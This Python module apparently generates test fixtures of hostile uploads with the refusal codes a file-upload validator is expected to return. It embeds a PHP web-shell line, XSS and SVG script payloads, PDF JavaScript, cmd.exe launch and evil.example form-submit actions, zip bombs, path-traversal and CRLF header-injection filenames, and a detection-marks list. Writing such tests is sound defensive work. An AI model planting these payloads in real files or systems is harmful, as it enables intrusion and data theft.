"""Hostile files 恶意文件: made to get in as something else, to run, to reach out or to unfold beyond measure (P61)."""

import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
from pikepdf import Array, Dictionary, Name

from .papers import jpeg, pdf, picture, png, saved, with_place

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(document.domain)</script>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!DOCTYPE html><html>" + SCRIPT + b"</html>"
PHP = b"<?php system($_GET['c']); ?>"
EXE = b"MZ\x90\x00" + b"\0" * 200
MARKS = (EICAR, b"<script", b"<?php", b"alert(", b"PK\x03\x04", b"MZ\x90", b"JavaScript", b"SecretPhoneMaker")
"""What must not be left in anything that is kept."""

REFUSED, REMADE = "", "remade"


@dataclass(frozen=True)
class Hostile:
    """A file, and what becomes of it: the code of its refusal, or that it is kept without what was hostile."""

    story: str
    name: str
    content: bytes
    fate: str


def zipped(**files: bytes) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


MACROS = zipped(word__document=b"x", word__vbaProject=EICAR)


def with_header(width: int, height: int) -> bytes:
    """A PNG that says it is so large, in a few bytes."""
    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack("!I", len(content)) + name + content + struct.pack("!I", zlib.crc32(name + content))


def with_segment(content: bytes) -> bytes:
    """A JPEG with a comment in front of its pixels."""
    segment = b"\xff\xfe" + struct.pack("!H", len(content) + 2) + content
    whole = jpeg()
    return whole[:2] + segment + whole[2:]


def made(change: Callable[[pikepdf.Pdf], None], **options: object) -> bytes:
    document = pikepdf.Pdf.open(BytesIO(pdf()))
    change(document)
    return saved(document, **options)


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def on_opening(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = script()


def on_turning_the_page(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.AA = Dictionary(O=script())


def in_names(document: pikepdf.Pdf) -> None:
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", document.make_indirect(script())])))


def launching(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.Launch, F="cmd.exe")


def submitting(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.SubmitForm, F="https://evil.example/")


def in_a_field(document: pikepdf.Pdf) -> None:
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="a", Rect=[0, 0, 9, 9], AA=Dictionary(K=script())
    )
    document.pages[0].obj.Annots = Array([document.make_indirect(field)])
    document.Root.AcroForm = Dictionary(Fields=document.pages[0].obj.Annots)


def dynamic_form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=Array([]))


def attaching(document: pikepdf.Pdf) -> None:
    document.attachments["invoice.exe"] = EXE


def attaching_to_a_page(document: pikepdf.Pdf) -> None:
    file = Dictionary(Type=Name.Filespec, F="a.exe", EF=Dictionary(F=document.make_stream(EXE)))
    mark = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=file)
    document.pages[0].obj.Annots = Array([document.make_indirect(mark)])


def film(document: pikepdf.Pdf) -> None:
    mark = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])
    document.pages[0].obj.Annots = Array([document.make_indirect(mark)])


def linking(document: pikepdf.Pdf) -> None:
    mark = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(S=Name.URI, URI="javascript:alert(1)")
    )
    document.pages[0].obj.Annots = Array([document.make_indirect(mark)])


def saying(document: pikepdf.Pdf) -> None:
    document.docinfo["/Title"] = SCRIPT.decode()
    document.Root.Metadata = document.make_stream(SCRIPT)


def unfolding(document: pikepdf.Pdf) -> None:
    bomb = zlib.compress(b"\0" * 300_000_000, 9)
    document.pages[0].obj.Contents = pikepdf.Stream(document, bomb, Filter=Name.FlateDecode)


def unfolding_twice(document: pikepdf.Pdf) -> None:
    bomb = zlib.compress(zlib.compress(b"\0" * 300_000_000, 9), 9)
    both = Array([Name.FlateDecode, Name.FlateDecode])
    document.pages[0].obj.Contents = pikepdf.Stream(document, bomb, Filter=both)


def huge_picture(document: pikepdf.Pdf) -> None:
    picture = pikepdf.Stream(document, zlib.compress(b"\0" * 100), Filter=Name.FlateDecode)
    picture.update({"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 60_000, "/Height": 60_000})
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=document.make_indirect(picture)))


def nested(depth: int) -> bytes:
    """Brackets in brackets, to exhaust a parser."""
    return b"%PDF-1.7\n1 0 obj\n" + b"[" * depth + b"]" * depth + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def written_otherwise() -> bytes:
    """The forbidden name spelled with an escape, in a file of the same length."""
    plain = made(on_opening, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return plain.replace(b"/JavaScript", b"/J#61vaScript").replace(b"app.alert", b"a.alert")


def packed() -> bytes:
    """What acts lies in a packed stream of objects, where no search of the bytes finds it."""
    return made(in_names, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def locked(user: str) -> bytes:
    return made(lambda document: None, encryption=pikepdf.Encryption(owner="owner", user=user))


def corpus() -> Iterator[Hostile]:
    yield from disguised()
    yield from in_pictures()
    yield from in_pdfs()


def disguised() -> Iterator[Hostile]:
    """Something else under an allowed name, or something allowed under a hostile one."""
    other = {"html": HTML, "svg": SVG, "php": PHP, "exe": EXE, "macros": MACROS, "eicar": EICAR, "gif": picture("GIF")}
    other |= {"bmp": picture("BMP"), "tiff": picture("TIFF"), "webp": picture("WEBP"), "elf": b"\x7fELF" + b"\0" * 60}
    for what, content in other.items():
        yield Hostile(f"{what} called jpg", "scan.jpg", content, "file_not_what_it_says")
    for what in ("html", "svg", "macros", "eicar"):
        yield Hostile(f"{what} called pdf", "scan.pdf", other[what], "file_not_what_it_says")
    for name in (
        "a.svg",
        "a.html",
        "a.docm",
        "a.exe",
        "a.jpg.exe",
        "a.php",
        "a.heic",
        "a",
        "a.pdf.",
        "a.jpg\0.exe",
        "a.jpg\0",
    ):
        yield Hostile(f"named {name!r}", name, jpeg(), "file_type_refused")
    yield Hostile("a program told from right to left", "scan\u202egpj.exe", jpeg(), "file_type_refused")
    yield Hostile("png called jpg", "a.jpg", png(), "file_not_what_it_says")
    yield Hostile("jpg called pdf", "a.pdf", jpeg(), "file_not_what_it_says")
    yield Hostile("nothing", "a.pdf", b"", "file_empty")
    yield Hostile("only blanks", "a.pdf", b" \n" * 50, "file_empty")
    yield Hostile("eleven megabytes", "a.jpg", jpeg() + b"\0" * (11 << 20), "file_too_large")
    yield Hostile("a way out of the folder", "../../../etc/cron.d/a.jpg", jpeg(), REMADE)
    yield Hostile("a way out on Windows", "..\\..\\autoexec.png", png(), REMADE)
    yield Hostile("marks that turn the direction", "\u202egpj.fdp.pdf", pdf(), REMADE)
    yield Hostile("a line break and a header", 'a"\r\nSet-Cookie: x=1.png', png(), REMADE)
    yield Hostile("a name without end", "长" * 5000 + ".png", png(), REMADE)


def in_pictures() -> Iterator[Hostile]:
    yield Hostile("script behind a picture", "a.jpg", jpeg() + SCRIPT, REMADE)
    yield Hostile("script in a comment", "a.jpg", with_segment(SCRIPT), REMADE)
    yield Hostile("php in a comment", "a.jpg", with_segment(PHP), REMADE)
    yield Hostile("archive behind a picture", "a.jpg", jpeg() + MACROS, REMADE)
    yield Hostile("virus behind a picture", "a.png", png() + EICAR, REMADE)
    yield Hostile("program behind a picture", "a.png", png() + EXE, REMADE)
    yield Hostile("the place of a photograph", "a.jpg", with_place(), REMADE)
    yield Hostile("only the beginning of a picture", "a.jpg", b"\xff\xd8\xff\xe0" + SCRIPT, "document_broken")
    yield Hostile("half a picture", "a.jpg", jpeg(size=(400, 400))[:700], "document_broken")
    yield Hostile("half a png", "a.png", png(size=(400, 400))[:90], "document_broken")
    yield Hostile("a png of wrong sums", "a.png", png().replace(b"IDAT", b"IDAX"), "document_broken")
    yield Hostile("a picture like a field", "a.png", with_header(60_000, 60_000), "document_too_many_pixels")
    yield Hostile("a picture without measure", "a.png", with_header(2**31 - 1, 2**31 - 1), "document_too_many_pixels")
    yield Hostile("a picture of nothing", "a.png", with_header(0, 0), "document_broken")


def in_pdfs() -> Iterator[Hostile]:
    for act in (on_opening, on_turning_the_page, in_names, launching, submitting, in_a_field, dynamic_form):
        yield Hostile(f"pdf that acts: {act.__name__}", "a.pdf", made(act), "document_active")
    yield Hostile("pdf that acts, packed", "a.pdf", packed(), "document_active")
    yield Hostile("pdf that acts, spelled otherwise", "a.pdf", written_otherwise(), "document_active")
    for embed in (attaching, attaching_to_a_page, film):
        yield Hostile(f"pdf that embeds: {embed.__name__}", "a.pdf", made(embed), "document_embeds")
    yield Hostile("locked pdf", "a.pdf", locked("secret"), "document_locked")
    yield Hostile("encrypted pdf that opens", "a.pdf", locked(""), "document_locked")
    yield Hostile("pdf of 101 pages", "a.pdf", pdf(101), "document_too_many_pages")
    yield Hostile("pdf of no page", "a.pdf", pdf(0), "document_without_pages")
    for bomb in (unfolding, unfolding_twice):
        yield Hostile(f"pdf that unfolds: {bomb.__name__}", "a.pdf", made(bomb), "document_unfolds")
    yield Hostile("pdf with a picture like a field", "a.pdf", made(huge_picture), "document_too_many_pixels")
    yield Hostile("brackets in brackets", "a.pdf", nested(100_000), "document_broken")
    yield Hostile("half a pdf", "a.pdf", pdf(20)[:900], "document_broken")
    yield Hostile("only the beginning of a pdf", "a.pdf", b"%PDF-1.7\n" + SCRIPT, "document_broken")
    yield Hostile("archive behind a pdf", "a.pdf", pdf() + MACROS, REMADE)
    yield Hostile("virus behind a pdf", "a.pdf", pdf() + EICAR, REMADE)
    yield Hostile("pdf that links", "a.pdf", made(linking), REMADE)
    yield Hostile("script in the words about a pdf", "a.pdf", made(saying), REMADE)
